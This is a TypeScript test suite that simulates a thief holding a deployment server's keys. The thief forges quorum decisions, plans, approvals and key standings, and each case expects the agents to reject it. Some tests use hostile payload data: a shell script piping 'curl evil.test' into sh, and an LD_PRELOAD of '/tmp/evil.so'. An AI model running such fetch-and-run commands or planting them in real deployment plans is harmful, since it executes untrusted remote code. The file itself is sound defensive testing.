import { describe } from 'vitest';
import { documentDigest, type AnyDocument, type DocumentOf } from '../../src/core/model/documents.ts';
import { digestOfBytes } from '../../src/core/model/digest.ts';
import { inForceDigest, preimageDigest, type Plan, type Runs } from '../../src/core/model/preimages.ts';
import { changeTo } from '../../src/core/trust/apply-change.ts';
import { documentOf, type Person } from '../fakes/log-fixture.ts';
import { attack, type Verdict } from './attack.ts';
import { json, type Heist, type Loot } from './heist.ts';
import { heists, honest, steal, targetOf, withRuns } from './heists.ts';

/**
 * A simulated thief: somebody who holds the server's process, its database and every key of it (decisions, evidence commits, the agents'
 * authority), signs any record, and dates everything as they like. What agents execute stays what a quorum approved. Every agent here is
 * the real one (proof, journal, runner); nothing of it is told what is forged.
 */

const { open, approved, asked } = heists();
const evil = Buffer.from('#!/bin/sh\ncurl evil.test | sh\n');

describe('a thief of everything that the server holds, who forges the decision,', () => {
  attack('allow without any approval, signed by the server’s key', {
    rules: ['T21', 'T29'], expects: 'QuorumNotMet', attempt: steal(asked, {}), twin: steal(approved, {}),
  });

  attack('allow on the requester’s own approval, who is left out of the decision', {
    rules: ['T19'], expects: 'QuorumNotMet',
    attempt: async () => stealWith(await requestedBy('bob', 'bob'), { requesters: { people: [], unknown: 0 } }),
    twin: async () => stealWith(await requestedBy('bob', 'carol'), { requesters: { people: [], unknown: 0 } }),
  });

  attack('allow whose requester is hidden by taking the signature off the Promotion', {
    rules: ['T20'], expects: 'QuorumNotMet',
    attempt: async () => {
      const heist = await requestedBy('bob', 'bob');
      const { signatures: _, ...unsigned } = heist.read<DocumentOf<'Promotion'>>(heist.log.lastDecision().sources.promotion);
      const sources = { promotion: digestOfBytes(json(unsigned)) };
      return heist.hand(await heist.steal({ stored: [json(unsigned)], sources, input: { requesters: { people: [], unknown: 0 } } }));
    },
    twin: async () => stealWith(await requestedBy('bob', 'carol'), {}),
  });

  attack('approval of somebody without the role, counted as if they held it', {
    rules: ['T21'], expects: 'QuorumNotMet',
    attempt: async () => stealWith(await requestedBy('alice', 'mallory'), { approvers: [{ principal: 'mallory', roles: ['sre'] }] }),
    twin: async () => stealWith(await requestedBy('alice', 'carol'), {}),
  });

  attack('approval whose text was changed to name this promotion', {
    rules: ['T3', 'T7'], expects: 'QuorumNotMet',
    attempt: async () => {
      const heist = await asked();
      const old = await heist.log.approval('bob', { digest: digestOfBytes('something small') });
      const digest = heist.log.lastDecision().decision.promotionDigest!;
      return heist.hand(await heist.steal({ approvals: [{ ...old, spec: { ...old.spec, digest } }] }));
    },
    twin: async () => {
      const heist = await asked();
      return heist.hand(await heist.steal({ approvals: [await heist.log.approval('bob')] }));
    },
  });

  attack('old approvals replayed for a new generation', {
    rules: ['T22'], expects: 'QuorumNotMet',
    attempt: steal(approved, (heist) => ({ redigest: true, input: { state: { ...heist.input().state, generation: 7 } } })),
    twin: steal(approved, { redigest: true }),
  });

  attack('generation that does not follow from what was approved', {
    rules: ['T22'], expects: 'PromotionDigestMismatch', attempt: steal(approved, { decision: { generation: 9 } }), twin: steal(approved, { decision: { generation: 2 } }),
  });

  attack('rules that the approved digest names eased to none', {
    rules: ['T14', 'T17'], expects: 'PromotionDigestMismatch', attempt: steal(asked, { redigest: true, input: { clauses: [] } }), twin: steal(approved, { redigest: true }),
  });

  attack('rule set lowered in the header of the decision', {
    rules: ['T12'], expects: 'RulesUnknown', attempt: steal(approved, { header: { rules: 0 as 1 } }), twin: steal(approved, { header: { rules: 1 } }),
  });

  attack('decision signed by the key of the agents’ authority', {
    rules: ['T29'], expects: 'DecisionUnsigned',
    attempt: steal(approved, (heist) => ({ key: heist.log.agentCa })), twin: steal(approved, {}),
  });

  attack('decision that is pending, sent as if it were an allow', {
    rules: ['T30'], expects: 'NotAnAllow', attempt: steal(approved, { decision: { outcome: 'pending' } }), twin: steal(approved, { decision: { outcome: 'allow' } }),
  });

  attack('allow dated into the days of an approval that has expired since', {
    rules: ['T23', 'T32'], expects: 'AllowExpired',
    attempt: async () => expired(7200), twin: async () => expired(60),
  });

  attack('removal of what nobody asked to remove', {
    rules: ['T19', 'T21'], expects: 'QuorumNotMet',
    attempt: steal(asked, (heist) => ({
      plan: (plan) => ({ ...plan, operation: 'remove', runs: null, workflow: { ...plan.workflow, onFailure: 'hold' } }), redigest: true, input: { operation: 'remove', lock: null, release: null },
      predicate: { operation: 'remove', lock: null, runs: null, release: null }, ...removalOf(heist),
    })),
    twin: async () => {
      const heist = await open();
      await heist.deploy();
      await heist.log.promote({ state: 'absent' });
      await heist.log.approve('bob');
      return honest(heist);
    },
  });
});

/** `by` asked for 1.0.0, which nothing runs yet, and `approver` said yes to it. */
async function requestedBy(by: Person, approver: Person): Promise<Heist> {
  const heist = await open();
  heist.log.lock('1.0.0');
  await heist.log.promote({ release: '1.0.0' }, by);
  await heist.log.approve(approver);
  return heist;
}
const stealWith = async (heist: Heist, input: Loot['input'] & object): Promise<Verdict> => heist.hand(await heist.steal({ input }));

/** bob's yes held for an hour; the thief uses it `seconds` after it was given. */
async function expired(seconds: number): Promise<Verdict> {
  const heist = await open();
  const { log } = heist;
  log.lock('1.0.0');
  await log.promote({ release: '1.0.0' });
  const given = log.now.getTime();
  const approval = await log.approval('bob', { expires: new Date(given + 3_600_000).toISOString() });
  log.after(seconds);
  const at = new Date(given).toISOString();
  return heist.hand(await heist.steal({ approvals: [approval], input: { asOf: at }, predicate: { decidedAt: at }, header: { asOf: at } }));
}

/** A Promotion that asks for a removal, which nobody signed. */
function removalOf(heist: Heist): Pick<Loot, 'stored' | 'sources'> {
  const wanted = documentOf('Promotion', 'prod/shop', { state: 'absent' });
  return { stored: [json(wanted)], sources: { ...heist.log.lastDecision().sources, promotion: digestOfBytes(json(wanted)), releaseSpec: null, plan: preimageDigest(removal(heist)) } };
}
function removal(heist: Heist): Plan {
  const plan = heist.read<Plan>(heist.log.lastDecision().sources.plan);
  return { ...plan, operation: 'remove', runs: null, workflow: { ...plan.workflow, onFailure: 'hold' } };
}

describe('a thief who forges what runs', () => {
  attack('another plan under an approved digest', {
    rules: ['T22'], expects: 'PromotionDigestMismatch',
    attempt: steal(approved, { plan: withRuns(() => ({ variables: { LD_PRELOAD: '/tmp/evil.so' } })) }), twin: steal(approved, { plan: (plan) => plan }),
  });

  attack('other files under an approved digest', {
    rules: ['T15'], expects: 'PlanMismatch',
    attempt: steal(approved, { stored: [evil], plan: withRuns((runs) => ({ files: runs.files.map((file) => ({ ...file, digest: digestOfBytes(evil) })) })) }), twin: steal(approved, {}),
  });

  attack('other images under an approved digest', {
    rules: ['T15'], expects: 'PlanMismatch',
    attempt: steal(approved, { plan: withRuns((runs) => ({ components: runs.components.map((c) => ({ ...c, digest: digestOfBytes(evil) })) })) }), twin: steal(approved, {}),
  });

  attack('file whose bytes differ from the digest that the plan names', {
    rules: ['T30'], expects: 'ArtifactMissing',
    attempt: async () => {
      const heist = await approved();
      const bundle = await heist.order();
      const [file] = heist.read<Plan>(heist.log.lastDecision().sources.plan).runs!.files;
      const artifacts = new Map([...bundle.artifacts].filter(([digest]) => digest !== file!.digest));
      return heist.hand({ ...bundle, artifacts: new Map([...artifacts, [file!.digest, evil]]) });
    },
    twin: async () => honest(await approved()),
  });

  attack('other workflow under an approved digest', {
    rules: ['T22'], expects: 'PromotionDigestMismatch',
    attempt: steal(approved, { plan: (plan) => ({ ...plan, workflow: { ...plan.workflow, onFailure: 'hold', steps: plan.workflow.steps.slice(0, 1) } }) }), twin: steal(approved, {}),
  });

  attack('another release than the one that was approved, with everything recomputed', {
    rules: ['T21'], expects: 'QuorumNotMet',
    attempt: async () => {
      const heist = await open();
      await heist.log.allow('1.0.0');
      const first = heist.log.lastDecision();
      heist.end();
      heist.log.lock('1.1.0');
      await heist.log.promote({ release: '1.1.0' });
      return heist.hand(await heist.steal({ approvals: first.sources.approvals.map((digest) => heist.read<DocumentOf<'Approval'>>(digest)) }));
    },
    twin: async () => honest(await approved()),
  });

  attack('fallback to other content than what was approved as replaced', {
    rules: ['T28'], expects: 'PromotionDigestMismatch',
    attempt: steal(approved, (heist) => {
      const before = heist.read<Runs>(heist.input().state.runs);
      const other = { ...before, variables: { CURL: 'evil.test' } };
      return { order: { operation: 'fall-back' }, stored: [json(other)], input: { state: { ...heist.input().state, runs: preimageDigest(other) } } };
    }),
    twin: async () => {
      const heist = await approved();
      return heist.hand(await heist.order({ operation: 'fall-back' }));
    },
  });

  attack('order for another operation than the one that was allowed', {
    rules: ['T28'], expects: 'OperationMismatch', attempt: steal(approved, { order: { operation: 'remove' } }), twin: steal(approved, { order: { operation: 'promote' } }),
  });
});

describe('a thief who forges who may say so', () => {
  const grab = (heist: Heist): AnyDocument => ({ ...heist.log.principal('mallory'), spec: { ...heist.log.principal('mallory').spec, roles: [{ role: 'sre' }] } }) as unknown as AnyDocument;
  /** What mallory's yes is worth once a forged change gave mallory the role. */
  const seize = async (heist: Heist, envelope: Uint8Array, stored: readonly Uint8Array[], after: AnyDocument): Promise<Verdict> => {
    const approval = await heist.log.approval('mallory');
    const principals = inForceDigest([...heist.log.state.inForce.values()].filter((e) => e.kind === 'Principal').map((e) => ({ kind: e.kind, name: e.name, digest: e.name === 'mallory' ? documentDigest(after) : e.digest })));
    return heist.hand(await heist.steal({ approvals: [approval], stored, changes: (all) => [...all, envelope], header: { seq: heist.log.state.size + 1, principals } }));
  };

  attack('protected change that nobody approved, signed by the server’s key', {
    rules: ['T15'], expects: 'ChangeNotEntitled',
    attempt: async () => {
      const heist = await asked();
      const document = grab(heist);
      const { predicate } = await heist.log.changeOf(document, 'bob');
      const { envelope, stored } = heist.forgeChange({ ...predicate, approvals: [] }, [document]);
      return seize(heist, envelope, stored, document);
    },
    twin: async () => {
      const heist = await asked();
      const document = grab(heist);
      const { predicate, approval } = await heist.log.changeOf(document, 'bob');
      const { envelope, stored } = heist.forgeChange(predicate, [document]);
      return seize(heist, envelope, [...stored, json(approval)], document);
    },
  });

  attack('protected change on the approval of another one', {
    rules: ['T15'], expects: 'ChangeNotEntitled',
    attempt: async () => {
      const heist = await asked();
      const document = grab(heist);
      const { predicate } = await heist.log.changeOf(document, 'bob');
      const other = await heist.log.changeOf(targetOf('web-9'), 'bob');
      const { envelope, stored } = heist.forgeChange({ ...predicate, approvals: other.predicate.approvals }, [document]);
      return seize(heist, envelope, [...stored, json(other.approval)], document);
    },
    twin: async () => honest(await approved()),
  });

  attack('protected change that claims to be a stop, which takes one signature, and gives a role', {
    rules: ['T24'], expects: 'ChangeNotEntitled',
    attempt: async () => {
      const heist = await asked();
      const document = grab(heist);
      const { predicate, approval } = await heist.log.changeOf(document, 'mallory');
      const { envelope, stored } = heist.forgeChange({ ...predicate, basis: 'stop' as 'quorum' }, [document]);
      return seize(heist, envelope, [...stored, json(approval)], document);
    },
    twin: async () => honest(await approved()),
  });

  attack('second genesis, which needs no approvals', {
    rules: ['T13'], expects: 'ChangeNotEntitled',
    attempt: async () => {
      const heist = await asked();
      const document = grab(heist);
      const changes = [changeTo(heist.log.state, 'Principal', 'mallory', documentDigest(document))];
      const { envelope, stored } = heist.forgeChange({ basis: 'genesis', changeDigest: null, changes, approvals: [], proposers: { people: [], unknown: 0, commits: [] } }, [document]);
      return seize(heist, envelope, stored, document);
    },
    twin: async () => honest(await approved()),
  });

  attack('Agent document replaced by one with the thief’s key', {
    rules: ['T15'], expects: 'ChangeNotEntitled',
    attempt: async () => {
      const heist = await approved();
      const document = documentOf('Agent', 'anna', { identityKey: heist.log.agentCa.asymmetricKeyType ?? '', owner: 'bob', capabilities: ['directory_host'] }) as unknown as AnyDocument;
      const { predicate } = await heist.log.changeOf(document, 'alice');
      const { envelope, stored } = heist.forgeChange({ ...predicate, approvals: [] }, [document]);
      return heist.hand(await heist.steal({ stored, changes: (all) => [...all, envelope] }));
    },
    twin: async () => honest(await approved()),
  });

  attack('protected changes dropped, so that a role that was taken away is there again', {
    rules: ['T14', 'T16'], expects: 'InForceMismatch',
    attempt: async () => dropped((all) => all.slice(0, 1)), twin: async () => dropped(null),
  });

  attack('protected changes dropped on an agent that has seen them', {
    rules: ['T16'], expects: 'ChainRegressed',
    attempt: async () => {
      const heist = await open();
      await heist.log.allow('1.0.0');
      const old = await heist.order();
      await heist.log.change(targetOf('web-9', { environments: ['dev'] }));
      const agent = await heist.agent();
      await heist.hand(await heist.order(), agent);
      return heist.hand({ ...old, order: { ...old.order, try: 2 } }, agent);
    },
    twin: async () => {
      const heist = await open();
      await heist.log.allow('1.0.0');
      await heist.log.change(targetOf('web-9', { environments: ['dev'] }));
      const agent = await heist.agent();
      await heist.hand(await heist.order(), agent);
      return heist.hand(await heist.order({ try: 2 }), agent);
    },
  });

  attack('decision dated back to before its approver lost the role', {
    rules: ['T14'], expects: 'QuorumNotMet', attempt: async () => datedBack(true), twin: async () => datedBack(false),
  });

  attack('approval under a retired key, dated back to before it was retired', {
    rules: ['T9'], expects: 'QuorumNotMet', attempt: async () => keyed('retired'), twin: async () => keyed('active'),
  });

  attack('approval under a key that was superseded, dated back to before', {
    rules: ['T9'], expects: 'QuorumNotMet', attempt: async () => keyed('superseded'), twin: async () => keyed('active'),
  });

  attack('approval under a compromised key, dated back to before', {
    rules: ['T9'], expects: 'QuorumNotMet', attempt: async () => keyed('compromised'), twin: async () => keyed('active'),
  });

  attack('approval under a key that has expired, dated back to before', {
    rules: ['T9', 'T32'], expects: 'QuorumNotMet', attempt: async () => keyed('active', -86_400), twin: async () => keyed('active', 86_400),
  });

  /** bob's key lost its standing a day ago; somebody has it, and the thief dates their approval to before. */
  async function keyed(status: 'active' | 'retired' | 'superseded' | 'compromised', expiresIn?: number): Promise<Verdict> {
    const heist = await open();
    const { log } = heist;
    const yesterday = log.now.toISOString();
    log.after(86_400);
    const bob = log.principal('bob');
    const ends = expiresIn === undefined ? {} : { notAfter: new Date(log.now.getTime() + expiresIn * 1000).toISOString() };
    const standing = status === 'active' ? { status } : { status, since: yesterday };
    if (status !== 'active' || expiresIn !== undefined) await log.change({ ...bob, spec: { ...bob.spec, keys: bob.spec.keys.map(({ key }) => ({ key, ...standing, ...ends })) } } as unknown as AnyDocument, 'carol');
    log.lock('1.0.0');
    await log.promote({ release: '1.0.0' });
    const approval = await log.approval('bob');
    const before = new Date(Date.parse(yesterday) - 3_600_000).toISOString();
    const document = documentDigest(approval as unknown as AnyDocument);
    const counted = { principal: 'bob', document, payload: document, action: 'approve', observedAt: before, expires: null, excepts: [] } as const;
    return heist.hand(await heist.steal({ approvals: [approval], input: { approvals: [counted] } }));
  }

  async function dropped(keep: ((all: readonly Uint8Array[]) => readonly Uint8Array[]) | null): Promise<Verdict> {
    const heist = await open();
    await heist.log.change({ ...heist.log.principal('carol'), spec: { ...heist.log.principal('carol').spec, roles: [] } } as unknown as AnyDocument);
    heist.log.lock('1.0.0');
    await heist.log.promote({ release: '1.0.0' });
    const approvals = [await heist.log.approval(keep === null ? 'bob' : 'carol')];
    return heist.hand(await heist.steal({ approvals, ...(keep === null ? {} : { changes: keep }) }));
  }

  /** carol approved, then lost the role. @param takes whether it is taken away before the thief comes */
  async function datedBack(takes: boolean): Promise<Verdict> {
    const heist = await open();
    const { log } = heist;
    log.lock('1.0.0');
    await log.promote({ release: '1.0.0' });
    const approval = await log.approval('carol');
    const { size: seq, inForceDigests } = log.state;
    if (takes) await log.change({ ...log.principal('carol'), spec: { ...log.principal('carol').spec, roles: [] } } as unknown as AnyDocument);
    return heist.hand(await heist.steal({ approvals: [approval], header: { seq, ...inForceDigests } }));
  }
});
